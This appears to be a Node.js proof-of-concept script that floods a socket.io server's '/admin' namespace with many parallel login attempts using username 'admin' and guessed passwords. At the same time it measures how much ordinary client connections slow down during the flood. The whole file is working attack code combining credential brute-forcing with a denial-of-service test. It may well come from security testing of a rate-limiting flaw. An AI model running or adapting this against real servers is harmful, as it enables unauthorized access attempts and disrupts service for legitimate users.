import { io } from "socket.io-client";
const url = process.argv[2]; const N = +process.argv[3];
function attempt(ns, auth) {
  return new Promise((res) => {
    const t0 = Date.now();
    const s = io(url + ns, { forceNew: true, transports: ["websocket"], auth, reconnection: false, timeout: 600000 });
    s.on("connect", () => { s.close(); res(["connected", Date.now() - t0]); });
    s.on("connect_error", (e) => { s.close(); res([e.message.slice(0, 30), Date.now() - t0]); });
  });
}
const t0 = Date.now();
const probes = [];
const probe = setInterval(async () => { const [r, ms] = await attempt("/", {}); probes.push(ms); }, 500);
const results = await Promise.all(Array.from({ length: N }, (_, i) => attempt("/admin", { username: "admin", password: "guess" + i })));
clearInterval(probe);
const counts = {}; for (const [r] of results) counts[r] = (counts[r] || 0) + 1;
console.log("N", N, "total ms", Date.now() - t0, counts);
console.log("normal client connect ms during flood:", probes.join(","));
process.exit(0);
